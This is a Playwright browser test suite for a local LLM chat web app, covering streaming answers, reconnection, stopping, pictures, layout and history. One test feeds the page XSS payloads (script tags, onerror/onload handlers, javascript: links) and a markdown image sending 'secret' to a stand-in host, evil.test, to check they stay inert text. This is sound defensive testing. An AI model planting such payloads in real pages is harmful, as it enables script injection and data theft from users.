"""The page as its reader has it: a real server, a real browser, and an engine told when to speak."""

from __future__ import annotations

import asyncio
import base64
import os
import re
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, WebSocketRoute, expect

from hugweb import sample
from inference.errors import LoadFailed
from inference.protocol import (
    Done,
    Event,
    Failed,
    Generate,
    Loading,
    Reading,
    Request,
    Text,
    Thought,
    Timings,
    Usage,
)
from tests.chromium import DESKTOP, PHONE, in_browser
from tests.fakes import FakeEngine
from tests.serving import PROJECT, Server, engine_thread, fill_home, run_python
from tests.shapes import draw, saved

RED, BLUE = (saved(draw(*name, "page")) for name in (("red", "square"), ("blue", "square")))
MODEL = "HuggingFaceTB/SmolLM2-135M-Instruct"
EYES = "zoo/eyes"
ADD_MODEL = f"""
import django; django.setup()
from aliases.models import Alias
from inference.models import ModelRecord
ModelRecord.objects.all().delete()
ModelRecord.objects.create(
    name={MODEL!r}, source="store", folder="x", architecture="llama", capabilities=["completion"])
Alias.objects.create(name="smollm2", model={MODEL!r})
ModelRecord.objects.create(
    name={EYES!r}, source="store", folder="y", architecture="llava", capabilities=["completion", "vision"])
"""

pytestmark = in_browser


class Speaker:
    """The script of the engine: says the words of ``text``, each when it is allowed to."""

    def __init__(self) -> None:
        self.reset()

    def reset(self, text: str = "", *, free: bool = False) -> None:
        self.words = re.findall(r"\s*\S+", text)
        self.allowed = len(self.words) + 1 if free else 0
        self.error: Event | None = None
        self.thoughts: list[str] = []

    def allow(self, words: int = 1) -> None:
        self.allowed += words

    async def __call__(self, request: Request) -> AsyncIterator[Event]:
        assert isinstance(request, Generate)
        self.loop = asyncio.get_running_loop()
        yield Loading(seconds=0.1)
        if self.error:
            yield self.error
            return
        yield Reading(done=4, total=8)
        for thought in self.thoughts:
            yield Thought(text=thought)
        for number, word in enumerate(self.words):
            await self._permit(number)
            yield Text(text=word)
        await self._permit(len(self.words))
        count = len(self.words)
        timings = Timings(total=int(count * 26e6), completion=int(count * 25e6))
        yield Done(reason="stop", usage=Usage(prompt=8, completion=count), timings=timings)

    async def _permit(self, number: int) -> None:
        while self.allowed <= number:
            await asyncio.sleep(0.005)


@pytest.fixture(scope="module")
def speaker() -> Speaker:
    return Speaker()


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory, speaker: Speaker) -> Iterator[FakeEngine]:
    with engine_thread(tmp_path_factory.mktemp("engine") / "engine.sock", speaker) as running:
        yield running


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, engine: FakeEngine) -> Iterator[Server]:
    home = tmp_path_factory.mktemp("browser") / "home"
    fill_home(home)
    run_python(ADD_MODEL, home)
    with Server(home, engine=engine) as running:
        yield running


@pytest.fixture(scope="module")
def login(browser: Browser, server: Server) -> dict[str, object]:
    """What a browser remembers that has opened the address the server printed."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.login_address)
    expect(page).to_have_url(f"{server.url}/chat/")
    state = context.storage_state()
    context.close()
    return state


Open = Callable[..., Page]


@pytest.fixture
def open_page(browser: Browser, server: Server, login: dict[str, object], speaker: Speaker) -> Iterator[Open]:
    """Opens pages that must not complain, nor ask any other server for anything."""
    contexts: list[BrowserContext] = []
    wrong: list[str] = []

    def open_one(path: str = "/chat/", viewport: dict[str, int] = DESKTOP, **options: object) -> Page:
        context = browser.new_context(storage_state=login, viewport=viewport, **options)
        contexts.append(context)
        page = context.new_page()
        page.on("console", lambda said: said.type == "error" and wrong.append(said.text))
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("dialog", lambda dialog: wrong.append(dialog.message))
        page.on(
            "request",
            lambda asked: asked.url.removeprefix("blob:").startswith(server.url) or wrong.append(asked.url),
        )
        page.goto(server.url + path)
        return page

    speaker.reset()
    yield open_one
    for context in contexts:
        context.close()
    assert wrong == []


def ask(page: Page, text: str) -> None:
    page.fill("#text", text)
    page.press("#text", "Enter")


def test_an_answer_arrives_word_by_word(open_page: Open, server: Server, speaker: Speaker) -> None:
    speaker.reset("Paris **is** it.")
    page = open_page()
    expect(page.locator("#empty")).to_be_visible()
    ask(page, "What is the capital of France?")
    expect(page.locator(".phase-words")).to_have_text("Reading the prompt")
    expect(page.locator(".phase-clock")).to_contain_text("50 %")
    expect(page).to_have_url(re.compile(rf"{server.url}/chat/[0-9a-f-]{{36}}/$"))
    expect(page).to_have_title("What is the capital of France? · HugWeb")
    expect(page.locator("#today [aria-current]")).to_have_text("What is the capital of France?")
    expect(page.locator("#text")).to_have_value("")
    prose = page.locator(".answer .prose")
    for so_far in ("Paris", "Paris is", "Paris is it."):
        speaker.allow()
        expect(prose).to_have_text(so_far)
    expect(page.locator(".phase-words")).to_have_text("Writing")
    expect(page.locator("#stop")).to_be_visible()
    expect(page.locator("#send")).to_be_hidden()
    speaker.allow()
    expect(page.locator(".figures")).to_contain_text("3 tokens")
    expect(page.locator(".figures")).to_contain_text("40.0 tok/s")
    expect(page.locator("#send")).to_be_visible()
    expect(page.locator("#status")).to_have_text("The answer is complete.")
    assert prose.locator("strong").text_content() == "is"
    page.go_back()
    expect(page.locator("#empty")).to_be_visible()


def test_reloading_in_the_middle_loses_nothing(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("one two three four")
    page = open_page()
    ask(page, "Count")
    speaker.allow(2)
    expect(page.locator(".answer .prose")).to_have_text("one two")
    page.reload()
    expect(page.locator(".answer .prose")).to_have_text("one two")
    expect(page.locator("#stop")).to_be_visible()
    speaker.allow(3)
    expect(page.locator(".answer .prose")).to_have_text("one two three four")
    expect(page.locator(".figures")).to_contain_text("complete")


def test_a_lost_connection_comes_back_by_itself(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("One.\n\nTwo.\n\nThree.")
    routes: list[WebSocketRoute] = []

    def route(socket: WebSocketRoute) -> None:
        routes.append(socket)
        socket.connect_to_server()

    page = open_page()
    page.route_web_socket("**/ws/chat/", route)
    page.reload()
    ask(page, "Count")
    speaker.allow()
    expect(page.locator(".answer .prose")).to_have_text("One.")
    routes[-1].close(code=1012)
    speaker.allow(3)
    expect(page.locator(".answer .prose .block")).to_have_count(3)
    expect(page.locator(".answer .prose")).to_have_text("One. Two. Three.")
    expect(page.locator(".figures")).to_contain_text("complete")
    assert len(routes) == 2


@pytest.mark.parametrize("how", ["button", "Escape", "another tab"])
def test_stop_keeps_what_was_written(open_page: Open, speaker: Speaker, how: str) -> None:
    speaker.reset("one two three")
    page = open_page()
    ask(page, "Count")
    speaker.allow()
    expect(page.locator(".answer .prose")).to_have_text("one")
    if how == "Escape":
        page.keyboard.press("Escape")
    else:
        where = page if how == "button" else open_page(re.sub(r"^https?://[^/]+", "", page.url))
        where.click("#stop")
    expect(page.locator(".ending")).to_contain_text("You stopped this answer.")
    expect(page.locator(".answer .prose")).to_have_text("one")
    speaker.reset("again", free=True)
    page.click("[data-action=retry]")
    expect(page.locator(".answer")).to_have_count(2)
    expect(page.locator(".question-text").last).to_have_text("Count")
    expect(page.locator(".answer .prose").last).to_have_text("again")


def test_stop_before_the_page_is_connected_is_not_lost(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("one two three")
    page = open_page()
    ask(page, "Count")
    speaker.allow()
    expect(page.locator(".answer .prose")).to_have_text("one")
    # By then the page's scripts have run, and its socket has had no time to open.
    page.add_init_script(
        "addEventListener('DOMContentLoaded', () => document.getElementById('stop').click())"
    )
    page.reload()
    expect(page.locator(".ending")).to_contain_text("You stopped this answer.")
    expect(page.locator(".answer .prose")).to_have_text("one")


def test_an_engine_that_dies_is_explained(open_page: Open, engine: FakeEngine, speaker: Speaker) -> None:
    speaker.reset("one two three")
    page = open_page()
    ask(page, "Count")
    speaker.allow()
    expect(page.locator(".answer .prose")).to_have_text("one")
    speaker.loop.call_soon_threadsafe(engine.die)
    expect(page.locator(".ending.problem")).to_contain_text("The answer was cut off. The engine stopped")
    expect(page.locator(".answer .prose")).to_have_text("one")


def test_an_error_is_shown_in_words(open_page: Open, speaker: Speaker) -> None:
    speaker.error = Failed.of(LoadFailed("The weights of this model are damaged. Pull it again."))
    page = open_page()
    ask(page, "Hello")
    expect(page.locator(".ending.problem")).to_contain_text("No answer came. The weights")
    expect(page.locator("#send")).to_be_visible()


def test_a_draft_survives_and_enter_knows_its_place(open_page: Open, speaker: Speaker) -> None:
    page = open_page()
    page.fill("#text", "first line")
    page.press("#text", "Shift+Enter")
    page.keyboard.type("second line")
    page.reload()
    expect(page.locator("#text")).to_have_value("first line\nsecond line")
    page.evaluate(
        "document.querySelector('#text').dispatchEvent(new KeyboardEvent('keydown',"
        " {key: 'Enter', keyCode: 229, bubbles: true}))"
    )
    expect(page.locator(".question")).to_have_count(0)
    speaker.reset("ok", free=True)
    page.press("#text", "Enter")
    expect(page.locator(".question-text")).to_have_text("first line\nsecond line", use_inner_text=True)


def test_hostile_text_stays_text(open_page: Open, speaker: Speaker) -> None:
    hostile = "<script>alert(1)</script> <img src=x onerror=alert(2)> ![x](http://evil.test/?q=secret)"
    links = "[x](javascript:alert(3)) <a href='javascript:alert(4)'>y</a> <svg onload=alert(5)>"
    speaker.reset(f"{hostile} {links}", free=True)
    page = open_page()
    ask(page, hostile)
    expect(page.locator(".figures")).to_contain_text("complete")
    expect(page.locator(".answer .prose")).to_contain_text("<script>alert(1)</script>")
    page.reload()
    expect(page.locator(".question-text")).to_have_text(hostile)


def test_code_and_answers_can_be_copied(open_page: Open, speaker: Speaker) -> None:
    text = "Look:\n\n```python\nprint(1)\n```"
    speaker.reset(text, free=True)
    page = open_page(permissions=["clipboard-read", "clipboard-write"])
    ask(page, "Code")
    page.click(".copy")
    expect(page.locator(".copy")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "print(1)\n"
    page.click("[data-action=copy]")
    expect(page.locator("[data-action=copy] use")).to_have_attribute("href", "#i-check")
    assert page.evaluate("navigator.clipboard.readText()") == text


def test_the_page_follows_until_the_reader_looks_elsewhere(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("\n\n".join(f"Line{number}" for number in range(120)))
    page = open_page()
    ask(page, "Count")
    speaker.allow(60)
    expect(page.locator("text=Line59")).to_be_in_viewport()
    expect(page.locator("#jump")).to_be_hidden()
    scroller = page.locator("#scroller")
    top = scroller.evaluate("(element) => element.scrollHeight - element.clientHeight") - 400
    page.mouse.move(700, 300)
    page.mouse.wheel(0, -400)
    expect(page.locator("#jump")).to_be_visible()
    # A wheel may take some frames to get there.
    expect(scroller).to_have_js_property("scrollTop", top)
    speaker.allow(60)
    expect(page.locator(".answer .prose .block")).to_have_count(120)
    expect(scroller).to_have_js_property("scrollTop", top)
    page.click("#jump")
    expect(page.locator("text=Line119")).to_be_in_viewport()
    speaker.allow()


def test_conversations_are_renamed_and_deleted_in_dialogs(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("ok", free=True)
    page = open_page()
    ask(page, "A first name")
    expect(page.locator(".figures")).to_contain_text("complete")
    entry = page.locator(".entry:has([aria-current])")
    entry.hover()
    entry.locator("[data-action=rename]").click()
    page.fill("#rename-dialog input[name=title]", "A second name")
    page.keyboard.press("Enter")
    expect(page.locator("#title")).to_have_text("A second name")
    entry.hover()
    entry.locator("[data-action=delete]").click()
    expect(page.locator("#delete-dialog")).to_contain_text("A second name")
    page.keyboard.press("Escape")
    expect(page.locator("#delete-dialog")).to_be_hidden()
    entry.locator("[data-action=delete]").click()
    page.locator("#delete-dialog").get_by_text("Delete", exact=True).click()
    expect(page.locator("#empty")).to_be_visible()
    expect(page.locator("text=A second name")).to_have_count(0)


def test_a_phone_shows_all_without_scrolling_sideways(open_page: Open, speaker: Speaker) -> None:
    speaker.reset(
        f"{'long' * 60}\n\n|a|b|c|d|\n|-|-|-|-|\n|{'x|' * 4}\n\n```\n{'code ' * 60}\n```", free=True
    )
    page = open_page(viewport=PHONE, is_mobile=True, has_touch=True)
    page.tap("#text")
    page.fill("#text", "word" * 60)
    page.press("#text", "Enter")
    expect(page.locator(".question")).to_have_count(0)
    page.tap("#send")
    expect(page.locator(".figures")).to_contain_text("complete")
    for element in ("document.documentElement", "document.querySelector('#scroller')"):
        assert page.evaluate(f"{element}.scrollWidth <= {element}.clientWidth")
    expect(page.locator("#sidebar")).to_be_hidden()
    page.tap(".drawer-open")
    expect(page.locator("#sidebar")).to_be_visible()
    expect(page.locator(".drawer-open")).to_have_attribute("aria-expanded", "true")
    page.keyboard.press("Escape")
    expect(page.locator("#sidebar")).to_be_hidden()


def test_a_tab_that_was_left_open_shows_what_was_said_in_another(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("ok", free=True)
    here = open_page()
    ask(here, "First")
    expect(here.locator(".figures")).to_contain_text("complete")
    there = open_page(re.sub(r"^https?://[^/]+", "", here.url))
    ask(here, "Second")
    expect(here.locator(".figures")).to_have_count(2)
    ask(there, "Third")
    expect(there.locator(".question-text")).to_have_text(["First", "Second", "Third"])
    expect(there.locator(".figures")).to_have_count(3)
    speaker.reset("slow")
    ask(here, "Fourth")
    expect(here.locator(".question-text")).to_have_text(["First", "Second", "Third", "Fourth"])
    ask(there, "Fifth")
    expect(there.locator("#stop")).to_be_visible()
    expect(there.locator("#text")).to_have_value("Fifth")
    speaker.allow(2)
    expect(there.locator(".figures")).to_have_count(4)


def test_a_paste_that_is_too_long_is_cut_and_told(open_page: Open) -> None:
    page = open_page()
    page.evaluate(
        """() => {
          const data = new DataTransfer();
          data.setData("text/plain", "x".repeat(200001));
          const fired = new ClipboardEvent("paste", { clipboardData: data, bubbles: true });
          document.querySelector("#text").dispatchEvent(fired);
        }"""
    )
    expect(page.locator("#tray-note")).to_contain_text("at most 200,000 characters")


def test_text_runs_in_its_own_direction(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("سلم\n\n- سلم\n\nHello\n\n```\nسلم\n```", free=True)
    page = open_page()
    page.fill("#text", "سلم")
    direction = "(element) => getComputedStyle(element).direction"
    assert page.locator("#text").evaluate(direction) == "rtl"
    page.press("#text", "Enter")
    expect(page.locator(".figures")).to_contain_text("complete")
    for _ in ("as it came", "as it was stored"):
        assert page.locator(".question-text").evaluate(direction) == "rtl"
        found = page.locator(".prose > .block").evaluate_all(f"(blocks) => blocks.map({direction})")
        assert found[:3] == ["rtl", "rtl", "ltr"]
        assert page.locator(".prose pre").evaluate(direction) == "ltr"
        page.reload()


def test_a_small_window_shows_the_first_page_from_its_top(open_page: Open) -> None:
    page = open_page(viewport={"width": 640, "height": 400})
    expect(page.get_by_text("What shall we talk about?")).to_be_in_viewport()
    expect(page.locator("#jump")).to_be_hidden()


def test_dark_follows_the_system_and_the_button_overrules(open_page: Open) -> None:
    page = open_page(color_scheme="dark")
    ground = "getComputedStyle(document.documentElement).backgroundColor"
    dark = page.evaluate(ground)
    assert sum(int(part) for part in re.findall(r"\d+", dark)[:3]) < 150
    page.click("#theme")
    expect(page.locator("#theme")).to_have_attribute("aria-label", "Theme: light")
    assert page.evaluate(ground) != dark
    page.reload()
    assert page.evaluate(ground) != dark


def test_history_can_be_read_without_javascript(
    browser: Browser, server: Server, login: dict[str, object], open_page: Open, speaker: Speaker
) -> None:
    speaker.reset("It **is**.", free=True)
    page = open_page()
    ask(page, "Is it?")
    expect(page.locator(".figures")).to_contain_text("complete")
    context = browser.new_context(storage_state=login, java_script_enabled=False, viewport=PHONE)
    plain = context.new_page()
    plain.goto(page.url)
    expect(plain.locator(".answer .prose strong")).to_have_text("is")
    expect(plain.locator(".entries a").first).to_be_visible()
    context.close()


def upload(page: Page, *names: tuple[str, str]) -> list[bytes]:
    """Attach a picture of each of these, and wait until they are there."""
    pictures = [saved(draw(*name, "page")) for name in names]
    page.select_option("#model", EYES)
    page.set_input_files(
        "#files",
        [
            {"name": f"{name[0]}.png", "mimeType": "image/png", "buffer": data}
            for name, data in zip(names, pictures, strict=True)
        ],
    )
    expect(page.locator("#tray li:not(.uploading)")).to_have_count(len(names))
    return pictures


def told(engine: FakeEngine) -> list[tuple[bytes, ...]]:
    """The pictures of each question in the last request."""
    request = engine.requests[-1]
    assert isinstance(request, Generate)
    return [message.images for message in request.messages if message.role == "user"]


def expect_pictures(page: Page, count: int) -> None:
    """The conversation has so many, and each is loaded."""
    pictures = page.locator(".pictures img")
    expect(pictures).to_have_count(count)
    for picture in pictures.all():
        picture.scroll_into_view_if_needed()
        expect(picture).not_to_have_js_property("naturalWidth", 0)


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_pictures_are_uploaded_sent_and_shown(
    open_page: Open, engine: FakeEngine, speaker: Speaker, viewport: dict[str, int]
) -> None:
    speaker.reset("A shape.", free=True)
    page = open_page(viewport=viewport)
    red, blue, _ = upload(page, ("red", "circle"), ("blue", "star"), ("green", "square"))
    page.click("#tray li:last-child button")
    expect(page.locator("#tray li")).to_have_count(2)
    page.fill("#text", "What is it?")
    page.click("#send")
    expect(page.locator(".figures")).to_contain_text("complete")
    assert told(engine) == [(red, blue)]
    expect(page.locator("#tray")).to_be_hidden()
    expect_pictures(page, 2)
    (green,) = upload(page, ("green", "triangle"))
    page.click("#send")
    expect(page.locator(".answer")).to_have_count(2)
    expect(page.locator(".figures").last).to_contain_text("complete")
    assert told(engine) == [(red, blue), (green,)]
    page.reload()
    expect_pictures(page, 3)
    assert page.evaluate("document.querySelector('#scroller').scrollWidth") <= viewport["width"]


@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_the_sample_picture_is_offered_where_the_model_sees(
    open_page: Open, engine: FakeEngine, speaker: Speaker, viewport: dict[str, int]
) -> None:
    speaker.reset("A house.", free=True)
    page = open_page(viewport=viewport)
    page.select_option("#model", MODEL)
    expect(page.locator("#sample")).to_be_hidden()
    page.select_option("#model", EYES)
    page.click("#sample")
    expect(page.locator("#text")).to_have_value("What is in this picture?")
    page.click("#send")
    expect(page.locator(".figures")).to_contain_text("complete")
    assert told(engine) == [(sample.PATH.read_bytes(),)]


def test_trying_again_sends_the_pictures_again(open_page: Open, engine: FakeEngine, speaker: Speaker) -> None:
    speaker.error = Failed.of(LoadFailed("Broken."))
    page = open_page()
    pictures = upload(page, ("red", "circle"))
    page.click("#send")
    expect(page.locator(".ending.problem")).to_contain_text("Broken")
    speaker.reset("A circle.", free=True)
    page.click("[data-action=retry]")
    expect(page.locator(".answer")).to_have_count(2)
    expect(page.locator(".figures").last).to_contain_text("complete")
    assert told(engine)[-1] == tuple(pictures)


def test_pictures_are_pasted_and_dropped(open_page: Open, engine: FakeEngine, speaker: Speaker) -> None:
    speaker.reset("Two.", free=True)
    page = open_page()
    page.select_option("#model", EYES)
    page.evaluate(
        """async ([paste, drop]) => {
          const transfer = (text) => {
            const bytes = Uint8Array.from(atob(text), (letter) => letter.charCodeAt(0));
            const data = new DataTransfer();
            data.items.add(new File([bytes], "x.png", { type: "image/png" }));
            return data;
          };
          const fire = (Kind, type, more) => document
            .querySelector("#text")
            .dispatchEvent(new Kind(type, { ...more, bubbles: true, cancelable: true }));
          fire(ClipboardEvent, "paste", { clipboardData: transfer(paste) });
          fire(DragEvent, "dragover", { dataTransfer: transfer(drop) });
          if (!document.querySelector("#main.dropping")) throw new Error("nothing shows where to drop");
          fire(DragEvent, "drop", { dataTransfer: transfer(drop) });
        }""",
        [base64.b64encode(one).decode() for one in (RED, BLUE)],
    )
    expect(page.locator("#tray li:not(.uploading)")).to_have_count(2)
    page.click("#send")
    expect(page.locator(".figures")).to_contain_text("complete")
    assert told(engine) == [(RED, BLUE)]


def test_limits_are_said_before_sending(open_page: Open, tmp_path: Path) -> None:
    (tmp_path / "b.png").write_bytes(bytes(2**24 + 1))
    page = open_page()
    note, files = page.locator("#tray-note"), "#files"
    page.select_option("#model", "smollm2")
    expect(page.locator("#attach")).to_have_attribute("aria-disabled", "true")
    page.click("#attach", force=True)
    expect(note).to_have_text("smollm2 cannot see pictures. Choose a model that can.")
    upload(page, ("red", "circle"))
    page.set_input_files(files, [{"name": "a.pdf", "mimeType": "application/pdf", "buffer": b"x"}])
    expect(note).to_contain_text("a.pdf is no PNG")
    page.set_input_files(files, tmp_path / "b.png")
    expect(note).to_have_text("b.png is larger than 16 MB.")
    page.set_input_files(files, [{"name": "c.png", "mimeType": "image/png", "buffer": RED}] * 8)
    expect(page.locator("#tray li:not(.uploading)")).to_have_count(8)
    expect(note).to_have_text("At most 8 pictures go with a message.")
    page.select_option("#model", "smollm2")
    expect(note).to_contain_text("smollm2 cannot see pictures")
    expect(page.locator("#send")).to_be_disabled()


def test_an_upload_that_fails_is_explained_and_taken_away(open_page: Open) -> None:
    page = open_page()
    page.select_option("#model", EYES)
    page.route("**/attachments/", lambda route: route.fulfill(json={"error": "It is damaged."}))
    page.set_input_files("#files", [{"name": "x.png", "mimeType": "image/png", "buffer": RED}])
    expect(page.locator("#tray-note")).to_have_text("It is damaged.")
    expect(page.locator("#tray")).to_be_hidden()
    expect(page.locator("#send")).to_be_disabled()


def test_thoughts_are_folded_above_the_answer(open_page: Open, speaker: Speaker) -> None:
    speaker.reset("It is 42.")
    speaker.thoughts = ["First *this*.", "\n\nThen that."]
    page = open_page()
    ask(page, "What is it?")
    summary, text = page.locator(".thoughts summary"), page.locator(".thoughts-text")
    expect(summary).to_have_text("Thinking…")
    expect(page.locator(".phase-words")).to_have_text("Thinking")
    expect(text).to_be_hidden()
    summary.click()
    expect(text.locator(".block")).to_have_count(2)
    expect(text.locator("em")).to_have_text("this")
    speaker.allow(4)
    expect(summary).to_have_text("Thought for 1 s")
    expect(page.locator(".figures")).to_contain_text("complete")
    expect(page.locator(".answer .prose")).to_have_text("It is 42.")
    page.reload()
    expect(summary).to_have_text("Thought for 1 s")
    expect(text).to_be_hidden()
    summary.click()
    expect(text).to_have_text("First this. Then that.")


CLEAR = """
import django; django.setup()
from conversations.models import Conversation
Conversation.objects.all().delete()
"""
AGE = """
import django; django.setup()
from datetime import timedelta
from django.utils import timezone
from conversations.models import Conversation
newest = Conversation.objects.latest("updated")
newest.updated = timezone.now() - timedelta(days={days})
newest.save()
"""
SHOWN = """Counting words is a job for `collections.Counter`:

```python
from collections import Counter

def count_words(text: str, top: int = 3) -> list[tuple[str, int]]:
    \"\"\"The most frequent words, and how often each occurs.\"\"\"
    return Counter(text.lower().split()).most_common(top)
```

For *the cat and the hat and the bat* that gives:

| Word | Times |
|---|---:|
| the | 3 |
| and | 2 |
| cat | 1 |

1. **Case** does not matter, for `lower()` comes first.
2. **Punctuation** still clings to its word; strip it if that matters to you."""


# Not HUGWEB_…: conftest takes all of those away, so that no test sees the machine's own settings.
@pytest.mark.skipif(os.environ.get("README_SCREENSHOT") != "1", reason="makes the README's picture")
def test_the_readme_s_picture(open_page: Open, server: Server, speaker: Speaker) -> None:
    run_python(CLEAR, server.home)
    past = {9: "Names for a sailing boat", 3: "Why is the sky blue?", 1: "Three days in Lisbon"}
    for days, earlier in past.items():
        speaker.reset("Of course.", free=True)
        page = open_page()
        ask(page, earlier)
        expect(page.locator(".figures")).to_contain_text("complete")
        run_python(AGE.format(days=days), server.home)
    speaker.reset(SHOWN, free=True)
    page = open_page(viewport={"width": 1280, "height": 860}, device_scale_factor=2)
    ask(page, "How do I count the words of a text in Python?")
    expect(page.locator(".figures")).to_contain_text("complete")
    page.wait_for_timeout(300)
    page.screenshot(path=Path(PROJECT, "docs", "screenshot.png"))
